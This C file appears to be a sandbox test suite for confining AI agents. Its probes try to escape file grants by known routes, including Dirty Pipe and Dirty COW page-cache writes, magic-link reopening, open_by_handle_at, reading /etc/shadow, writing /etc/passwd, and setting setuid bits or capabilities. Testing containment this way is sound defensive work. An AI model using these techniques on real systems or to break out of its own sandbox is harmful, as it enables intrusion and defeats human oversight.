/* SPDX-License-Identifier: MIT */
/* Files that are not granted, are granted read-only, or are denied: each operation under its own name. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attack.h"

static int read_it(const struct probe *probe)
{
    return tell(target(probe));
}

static int write_once(int fd)
{
    if (fd < 0 || write(fd, "forged\n", 7) != 7)
        return -1;
    return close(fd);
}

static int append(const struct probe *probe)
{
    return write_once(open(target(probe), O_WRONLY | O_APPEND));
}

static int cut(const struct probe *probe)
{
    return truncate(target(probe), 3);
}

static int create(const struct probe *probe)
{
    return write_once(open(path_of("%s.new", target(probe)), O_WRONLY | O_CREAT | O_EXCL, 0600));
}

static int make_folder(const struct probe *probe)
{
    return mkdir(path_of("%s.new", target(probe)), 0700);
}

static int mode(const struct probe *probe)
{
    return chmod(target(probe), 0666);
}

/* A mask has mode 000 and the program's own id: if its mode could be changed it would be readable. */
static int mode_and_read(const struct probe *probe)
{
    if (chmod(target(probe), 0666) < 0 && fchmodat(AT_FDCWD, target(probe), 0666, 0) < 0)
        return -1;
    return tell(target(probe));
}

static int folder_mode(const struct probe *probe)
{
    if (chmod(given(probe->zone), 0777) < 0)
        return -1;
    return tell(target(probe));
}

static int owner(const struct probe *probe)
{
    /* To what it is already: allowed to its owner, and a change of the inode all the same. */
    return chown(target(probe), getuid(), getgid());
}

static int times(const struct probe *probe)
{
    const struct timespec then[2] = { { 86400, 0 }, { 86400, 0 } };

    return utimensat(AT_FDCWD, target(probe), then, 0);
}

static int attribute(const struct probe *probe)
{
    return setxattr(target(probe), "user.attack", "1", 1, 0);
}

static int removal(const struct probe *probe)
{
    return unlink(target(probe));
}

static int list(const struct probe *probe)
{
    DIR *folder = opendir(given(probe->zone));
    struct dirent *entry;

    if (!folder)
        return -1;
    while ((entry = readdir(folder)))
        say("%s ", entry->d_name);
    return closedir(folder);
}

static int hard_link(const struct probe *probe)
{
    if (link(target(probe), scratch(probe)) < 0)
        return -1;
    return tell(scratch(probe));
}

/* By an open descriptor, which no path check sees. */
static int link_descriptor(const struct probe *probe)
{
    int fd = open(target(probe), O_RDONLY);

    if (fd < 0)
        return -1;
    return linkat(AT_FDCWD, path_of("/proc/self/fd/%d", fd), AT_FDCWD, scratch(probe),
                  AT_SYMLINK_FOLLOW);
}

static int move_out(const struct probe *probe)
{
    if (rename(target(probe), scratch(probe)) < 0)
        return -1;
    return tell(scratch(probe));
}

static int move_over(const struct probe *probe)
{
    int fd = open(scratch(probe), O_WRONLY | O_CREAT, 0644);

    if (write_once(fd) < 0)
        return -1;
    return rename(scratch(probe), target(probe));
}

static int exchange(const struct probe *probe)
{
    int fd = open(scratch(probe), O_WRONLY | O_CREAT, 0644);

    if (write_once(fd) < 0)
        return -1;
    if (renameat2(AT_FDCWD, scratch(probe), AT_FDCWD, target(probe), RENAME_EXCHANGE) < 0)
        return -1;
    return tell(scratch(probe));
}

/* The folder above it is moved away, so that something new could be put at its path. */
static int move_folder(const struct probe *probe)
{
    char *folder = dirname(strdup(target(probe)));

    if (rename(folder, scratch(probe)) < 0)
        return -1;
    (void)rename(scratch(probe), folder);
    return WORKED;
}

static int remove_folder(const struct probe *probe)
{
    return rmdir(given(probe->zone));
}

static int reopen(const struct probe *probe)
{
    int fd = open(target(probe), O_RDONLY);

    if (fd < 0)
        return -1;
    return write_once(open(path_of("/proc/self/fd/%d", fd), O_WRONLY | O_APPEND));
}

/* O_PATH needs no right to the file; the second open is by magic link. */
static int reopen_path(const struct probe *probe)
{
    int fd = open(target(probe), O_PATH);

    if (fd < 0)
        return -1;
    return tell(path_of("/proc/self/fd/%d", fd));
}

static int map_shared(const struct probe *probe)
{
    int fd = open(target(probe), O_RDWR);
    char *page;

    if (fd < 0)
        return -1;
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED)
        return -1;
    page[0] = 'X';
    return msync(page, 4096, MS_SYNC);
}

/* The page cache of a read-only file, entered through the flags of a pipe buffer. */
static int dirty_pipe(const struct probe *probe)
{
    static char block[4096];
    int fd = open(target(probe), O_RDONLY), ends[2];
    off_t from = 0;

    if (fd < 0 || pipe(ends) < 0)
        return -1;
    for (int i = 0; i < 16; i++)
        if (write(ends[1], block, sizeof block) != sizeof block)
            return -1;
    for (int i = 0; i < 16; i++)
        if (read(ends[0], block, sizeof block) != sizeof block)
            return -1;
    if (splice(fd, &from, ends[1], NULL, 1, 0) != 1 || write(ends[1], "XXXX", 4) != 4)
        return -1;
    if (pread(fd, block, 8, 0) != 8)
        return -1;
    return memcmp(block + 1, "XXXX", 4) == 0 ? WORKED : HELD;
}

/* Writes through /proc/self/mem into a private mapping while its pages are thrown away. */
static int dirty_cow(const struct probe *probe)
{
    int fd = open(target(probe), O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0), seen[8];
    pid_t pid;

    if (fd < 0 || memory < 0 || page == MAP_FAILED)
        return -1;
    pid = fork();
    if (pid == 0) {
        for (int i = 0; i < 2000; i++)
            (void)madvise(page, 4096, MADV_DONTNEED);
        _exit(0);
    }
    for (int i = 0; i < 2000; i++) {
        (void)!pwrite(memory, "XXXX", 4, (off_t)(size_t)page);
        (void)madvise(page, 4096, MADV_DONTNEED);
    }
    (void)status_of(pid);
    if (pread(fd, seen, sizeof seen, 0) != sizeof seen)
        return -1;
    return memcmp(seen, "XXXX", 4) == 0 ? WORKED : HELD;
}

static int execute(const struct probe *probe)
{
    pid_t pid = vfork();
    int status;

    if (pid == 0) {
        (void)execl(target(probe), target(probe), "state", (char *)NULL);
        _exit(errno == EACCES ? 113 : errno == ENOENT ? 102 : 1);
    }
    status = status_of(pid);
    errno = WEXITSTATUS(status) == 113 ? EACCES : ENOENT;
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? WORKED : -1;
}

/* The loader opens the program itself, whether or not it may be executed. */
static int load(const struct probe *probe)
{
    pid_t pid = vfork();
    int status;

    if (pid == 0) {
        (void)execl(given("loader"), "ld.so", target(probe), (char *)NULL);
        _exit(126);
    }
    status = status_of(pid);
    errno = EACCES;
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? WORKED : -1;
}

/* The handle comes from the driver, as if it had been guessed; any descriptor of the filesystem will do. */
static int by_handle(const struct probe *probe)
{
    struct {
        unsigned bytes;
        int type;
        unsigned char data[128];
    } handle = { .type = (int)given_number("handle-type") };
    const char *hex = given("handle");
    int root = open(given("rw"), O_RDONLY | O_DIRECTORY), fd;

    (void)probe;
    for (; hex[0] && hex[1] && handle.bytes < sizeof handle.data; hex += 2) {
        const char byte[3] = { hex[0], hex[1], 0 };

        handle.data[handle.bytes++] = (unsigned char)strtoul(byte, NULL, 16);
    }
    fd = (int)syscall(SYS_open_by_handle_at, root, &handle, O_RDONLY);
    return fd < 0 ? -1 : tell(path_of("/proc/self/fd/%d", fd));
}

static int system_secret(const struct probe *probe)
{
    return tell(probe->word);
}

/* A fixed path of the engine or of the host. */
static int open_to_write(const struct probe *probe)
{
    return worked(open(probe->word, O_WRONLY));
}

static int create_at(const struct probe *probe)
{
    int fd = open(path_of("%s/attack-%d", probe->word, (int)getpid()), O_WRONLY | O_CREAT, 0600);

    return worked(fd);
}

static int device_node(const struct probe *probe)
{
    /* /dev/null's numbers: what it makes is harmless. */
    if (mknod(scratch(probe), S_IFCHR | 0666, makedev(1, 3)) < 0)
        return -1;
    return worked(open(scratch(probe), O_RDWR));
}

static int planted_device(const struct probe *probe)
{
    (void)probe;
    return worked(open(path_of("%s/planted-device", given("rw")), O_RDWR));
}

static int make_set_id(const struct probe *probe)
{
    int fd;

    switch (probe->n[0]) {
    case 0:
        fd = open(scratch(probe), O_WRONLY | O_CREAT | O_EXCL, 0755);
        return fd < 0 ? -1 : fchmod(fd, (mode_t)probe->n[1]);
    case 1:
        return worked(open(scratch(probe), O_WRONLY | O_CREAT | O_EXCL, probe->n[1]));
    case 2:
        return mkdir(scratch(probe), 0755) < 0
                   ? -1
                   : worked(syscall(452 /* fchmodat2 */, AT_FDCWD, scratch(probe), probe->n[1], 0));
    case 3:
        return worked(syscall(SYS_mknod, scratch(probe), S_IFREG | probe->n[1], 0));
    default:
        return worked(
            syscall(SYS_openat, AT_FDCWD, given("rw"), O_TMPFILE | O_WRONLY, probe->n[1]));
    }
}

static int give_capability(const struct probe *probe)
{
    /* Version 2, effective, CAP_NET_RAW. */
    const unsigned data[5] = { 0x02000001, 1u << 13, 0, 0, 0 };
    int fd = open(scratch(probe), O_WRONLY | O_CREAT, 0755);

    return fd < 0 ? -1 : fsetxattr(fd, "security.capability", data, sizeof data, 0);
}

/* A symlink whose name a host-side tool could follow: /tmp is private, so nothing of it is outside. */
static int shared_tmp(const struct probe *probe)
{
    const char *path = path_of("%s/attack-%s", probe->word, given("token"));

    return worked(open(path, O_RDONLY));
}

#define DENIED "EACCES"
#define AGENT  "agent escapes: a file outside the working folder"

#define RONLY "BoxLite advisory 2026: read-only only in name"
#define MASK  "CVE-2025-31133 kind: a mask that can be undone"

const struct probe file_probes[] = {
    { "read-outside", AGENT, "read a file that no grant covers", SECRET, "ENOENT", OUTSIDE, read_it,
      .zone = "out" },
    { "append-outside", AGENT, "append to it", ALTERED, "ENOENT", OUTSIDE, append, .zone = "out" },
    { "truncate-outside", AGENT, "truncate it", ALTERED, "ENOENT", OUTSIDE, cut, .zone = "out" },
    { "create-outside", AGENT, "make a file beside it", ALTERED, "ENOENT", OUTSIDE, create,
      .zone = "out" },
    { "mkdir-outside", AGENT, "make a folder beside it", ALTERED, "ENOENT", OUTSIDE, make_folder,
      .zone = "out" },
    { "chmod-outside", AGENT, "change its mode", ALTERED, "ENOENT", OUTSIDE, mode, .zone = "out" },
    { "unlink-outside", AGENT, "remove it", ALTERED, "ENOENT", OUTSIDE, removal, .zone = "out" },
    { "execute-outside", AGENT, "execute a program there", RIGHT, "ENOENT", OUTSIDE, execute,
      .zone = "out" },
    { "append-readonly", RONLY, "append to a file of a read-only grant", ALTERED, "EROFS", OUTSIDE,
      append, .zone = "ro" },
    { "truncate-readonly", RONLY, "truncate it", ALTERED, "EROFS", OUTSIDE, cut, .zone = "ro" },
    { "create-readonly", RONLY, "make a file beside it", ALTERED, "EROFS", OUTSIDE, create,
      .zone = "ro" },
    { "chmod-readonly", RONLY, "change its mode", ALTERED, "EROFS", OUTSIDE, mode, .zone = "ro" },
    { "chown-readonly", RONLY, "change its owner", ALTERED, "EROFS", OUTSIDE, owner, .zone = "ro" },
    { "times-readonly", RONLY, "change its times", ALTERED, "EROFS", OUTSIDE, times, .zone = "ro" },
    { "xattr-readonly", RONLY, "set an attribute", ALTERED, "EROFS", OUTSIDE, attribute,
      .zone = "ro" },
    { "unlink-readonly", RONLY, "remove it", ALTERED, "EROFS", OUTSIDE, removal, .zone = "ro" },
    { "map-readonly", RONLY, "map it shared and write", ALTERED, "EROFS", OUTSIDE, map_shared,
      .zone = "ro" },
    { "reopen-readonly", "CVE-2019-5736 kind: reopen by magic link",
      "open it for reading, and again for writing by /proc/self/fd", ALTERED, "EROFS", OUTSIDE,
      reopen, .zone = "ro" },
    { "link-readonly", "hard link across grants", "link it into a writable grant", ALTERED, "EXDEV",
      OUTSIDE, hard_link, .zone = "ro" },
    { "link-descriptor", "hard link across grants", "link it there by its descriptor", ALTERED,
      "EXDEV", OUTSIDE, link_descriptor, .zone = "ro" },
    { "rename-readonly", "rename across grants", "move it into a writable grant", ALTERED, "EXDEV",
      OUTSIDE, move_out, .zone = "ro" },
    { "replace-readonly", "rename across grants", "move a file of its own over it", ALTERED,
      "EXDEV", OUTSIDE, move_over, .zone = "ro" },
    { "dirty-pipe", "CVE-2022-0847 Dirty Pipe",
      "write into the page cache of a read-only file through a pipe", ALTERED, "held", NOWHERE,
      dirty_pipe, .zone = "ro" },
    { "dirty-cow", "CVE-2016-5195 Dirty COW",
      "write through /proc/self/mem while pages are thrown away", ALTERED, "held EACCES", NOWHERE,
      dirty_cow, .zone = "ro" },
    { "read-denied", AGENT, "read a denied file", SECRET, DENIED, OUTSIDE, read_it,
      .zone = "single" },
    { "append-denied", AGENT, "append to it", ALTERED, "EACCES", OUTSIDE, append,
      .zone = "single" },
    { "truncate-denied", AGENT, "truncate it", ALTERED, "EACCES", OUTSIDE, cut, .zone = "single" },
    { "chmod-denied", MASK, "give the cover a mode, then read", SECRET, "EROFS", OUTSIDE,
      mode_and_read, .zone = "single" },
    { "unlink-denied", MASK, "remove the cover", ALTERED, "EBUSY", OUTSIDE, removal,
      .zone = "single" },
    { "link-denied", "hard link to a denied file", "link it to another name and read", SECRET,
      "EXDEV", OUTSIDE, hard_link, .zone = "single" },
    { "rename-denied", MASK, "move the denied file away and read", SECRET, "EXDEV", OUTSIDE,
      move_out, .zone = "single" },
    { "replace-denied", MASK, "move a file over it", ALTERED, "EXDEV", OUTSIDE, move_over,
      .zone = "single" },
    { "exchange-denied", MASK, "exchange it with a file of its own and read", SECRET, "EXDEV",
      OUTSIDE, exchange, .zone = "single" },
    { "path-denied", MASK, "open it with O_PATH, then by /proc/self/fd", SECRET, "EACCES", OUTSIDE,
      reopen_path, .zone = "single" },
    { "execute-denied", "Ona report: another way to run it", "execute a denied program", RIGHT,
      "EACCES", OUTSIDE, execute, .zone = "single" },
    { "load-denied", "Ona report: ld.so runs what must not run", "have the loader load it", RIGHT,
      "EACCES", OUTSIDE, load, .zone = "single" },
    { "move-folder", "firejail CVE-2017-5940 kind: the folder above is renamed",
      "rename the folder that holds denied files", ALTERED, "EBUSY", OUTSIDE, move_folder,
      .zone = "single" },
    { "list-denied-folder", AGENT, "list a denied folder", SECRET, DENIED, OUTSIDE, list,
      .zone = "denied" },
    { "read-in-denied-folder", AGENT, "read in it", SECRET, DENIED, OUTSIDE, read_it,
      .zone = "denied" },
    { "create-in-denied-folder", AGENT, "make a file in it", ALTERED, "EACCES", OUTSIDE, create,
      .zone = "denied" },
    { "chmod-denied-folder", MASK, "give its cover a mode, then read", SECRET, "EROFS", OUTSIDE,
      folder_mode, .zone = "denied" },
    { "move-denied-folder", MASK, "rename it", ALTERED, "EBUSY", OUTSIDE, move_folder,
      .zone = "denied" },
    { "rmdir-denied-folder", MASK, "remove its cover", ALTERED, "EBUSY", NOWHERE, remove_folder,
      .zone = "denied" },
    { "handle", "shocker: open_by_handle_at", "open a file outside by its handle", SECRET, "EPERM",
      BY_ROOT, by_handle, .zone = "out" },
    { "shadow", "CAP_DAC_READ_SEARCH of SandboxEscapeBench", "read /etc/shadow", SECRET, "EACCES",
      BY_ROOT, system_secret, "/etc/shadow" },
    { "write-passwd", "runc copy of system files", "open /etc/passwd for writing", ALTERED,
      "EROFS EACCES", BY_ROOT, open_to_write, "/etc/passwd" },
    { "write-usr", "host tools replaced", "open /usr/bin/env for writing", ALTERED, "EROFS EACCES",
      BY_ROOT, open_to_write, "/usr/bin/env" },
    { "create-in-root", "root of the sandbox", "make a file in /", ALTERED, "EROFS", NOWHERE,
      create_at, "/" },
    { "create-in-dev", "CVE-2025-31133: /dev of the sandbox", "make a file in /dev", ALTERED,
      "EROFS", NOWHERE, create_at, "/dev" },
    { "shared-tmp", "CVE-2026-46406: a predictable name in /tmp", "open a file of the host's /tmp",
      SECRET, "ENOENT", OUTSIDE, shared_tmp, "/tmp" },
    { "shared-shm", "shared memory files", "open a file of the host's /dev/shm", SECRET, "ENOENT",
      OUTSIDE, shared_tmp, "/dev/shm" },
    { "make-device", "device nodes", "make a device in a writable grant", RIGHT, "EPERM", BY_ROOT,
      device_node },
    { "planted-device", "device nodes", "open a device that lies in a writable grant", RIGHT,
      "EACCES", BY_ROOT, planted_device },
    { "set-id-chmod", "CVE-2023-0386 kind: set-id files for others outside",
      "give a file of its own the set-user-id bit", ALTERED, "EPERM", OUTSIDE, make_set_id,
      .n = { 0, 04755 } },
    { "set-id-open", "the same", "make a file with it", ALTERED, "EPERM", OUTSIDE, make_set_id,
      .n = { 1, 04755 } },
    { "set-id-folder", "the same", "set-group-id on a folder by fchmodat2", ALTERED, "EPERM", MAYBE,
      make_set_id, .n = { 2, 02755 } },
    { "set-id-mknod", "the same", "make a file with it by mknod", ALTERED, "EPERM", OUTSIDE,
      make_set_id, .n = { 3, 04755 } },
    { "set-id-tmpfile", "the same", "by O_TMPFILE", ALTERED, "EPERM", OUTSIDE, make_set_id,
      .n = { 4, 04755 } },
    { "give-capability", "file capabilities", "give a file of its own a capability", ALTERED,
      "EPERM", BY_ROOT, give_capability },
    { 0 },
};
